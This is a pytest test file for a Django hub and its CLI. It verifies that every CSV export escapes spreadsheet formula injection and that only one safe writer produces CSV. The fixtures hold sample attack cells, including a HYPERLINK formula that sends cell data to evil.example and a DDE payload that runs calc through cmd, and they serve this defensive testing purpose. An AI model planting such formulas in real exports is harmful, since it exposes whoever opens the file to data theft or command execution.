"""CSV formula injection (OWASP): every CSV the hub or hubctl writes is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.actors import Actor
from hubcore.csv_safe import FORMULA_STARTS, csv_cell, csv_document, csv_line
from hubctl import output
from sharing.bulk.services import bulk
from sharing.bulk.tasks import bulk_chunk_task
from sharing.models import BulkChunk, BulkJob
from tests.factories import client_for, web_login

REPO = Path(__file__).resolve().parents[2]
# One ref per dangerous first character, plus one that only contains it later (left alone).
FORMULA_REFS = [
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
SAFE_REF = "seller-=1"


def _parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_is_written_as_text(start):
    line = csv_line([f"{start}1+1", 7])

    assert _parsed(line) == [[f"'{start}1+1", "7"]]
    assert line.startswith("\"'")


def test_every_field_is_quoted_and_harmless_text_is_unchanged():
    line = csv_line(["seller-1", 'say "hi", =x', None, 3])

    assert line == '"seller-1","say ""hi"", =x","","3"\r\n'
    assert csv_cell("seller-=1") == "seller-=1" and csv_cell(-3) == -3


def test_a_csv_document_escapes_header_and_rows():
    document = csv_document(["ref"], [["=1+1"], ["ok"]])

    assert _parsed(document) == [["ref"], ["'=1+1"], ["ok"]]


def _formula_job(member) -> BulkJob:
    # JSONL keeps refs as given (a CSV cell is stripped, which would hide the tab and CR cases).
    lines = [
        json.dumps({"ref": ref, "identifiers": [{"type": "phone", "value": f"+86 138 0013 {8000 + n:04d}"}]})
        for n, ref in enumerate([*FORMULA_REFS, SAFE_REF])
    ]
    upload = SimpleUploadedFile("refs.jsonl", ("\n".join(lines) + "\n").encode())
    job = bulk.bulk_submit(purpose="seller_onboarding", upload=upload, actor=Actor(member=member))
    for chunk_id in BulkChunk.objects.filter(job=job).values_list("pk", flat=True):
        bulk_chunk_task(chunk_id)
    return job


def _refs_column(body: bytes) -> list[str]:
    return [row["ref"] for row in csv.DictReader(io.StringIO(body.decode()))]


@pytest.mark.django_db
def test_bulk_csv_results_from_the_api_escape_formula_refs(platform_analyst):
    job = _formula_job(platform_analyst)

    response = client_for(platform_analyst).get(f"/api/v1/bulk-checks/{job.public_id}/results?format=csv")

    body = b"".join(response.streaming_content)
    assert response.status_code == 200
    assert _refs_column(body) == [*("'" + ref for ref in FORMULA_REFS), SAFE_REF]
    assert not re.search(rb'(^|,)"?[=+\-@]', body.replace(b"\r\n", b"\n"), re.MULTILINE)


@pytest.mark.django_db
def test_bulk_csv_results_from_the_web_page_escape_formula_refs(client, platform_analyst):
    job = _formula_job(platform_analyst)
    web_login(client, platform_analyst)

    response = client.get(f"/bulk/{job.public_id}/results.csv")

    assert response.status_code == 200
    assert _refs_column(b"".join(response.streaming_content)) == [
        *("'" + ref for ref in FORMULA_REFS),
        SAFE_REF,
    ]


def test_hubctl_token_and_check_csv_escape_formula_refs():
    tokens = output.tokens_csv(
        [{"ref": "=cmd", "type": "phone", "token": "ab", "key_version": 1}], with_ref=True
    )
    checks = output.checks_csv([("@SUM(1)", {"level": "none", "risk": 0, "matched_types": []})])

    assert _parsed(tokens)[1] == ["'=cmd", "phone", "ab", "1"]
    assert _parsed(checks)[1] == ["'@SUM(1)", "none", "0", ""]


def test_no_csv_is_written_outside_the_one_safe_writer():
    """A new CSV output cannot forget the escaping: csv.writer/DictWriter appear only in hubcore/csv_safe.py."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    sources = [
        p for app in ("hub", "accounts", "sharing", "hubctl", "hubcore") for p in (REPO / app).rglob("*.py")
    ]

    offenders = [str(p.relative_to(REPO)) for p in sources if writers.search(p.read_text(encoding="utf-8"))]

    assert sources and offenders == ["hubcore/csv_safe.py"]
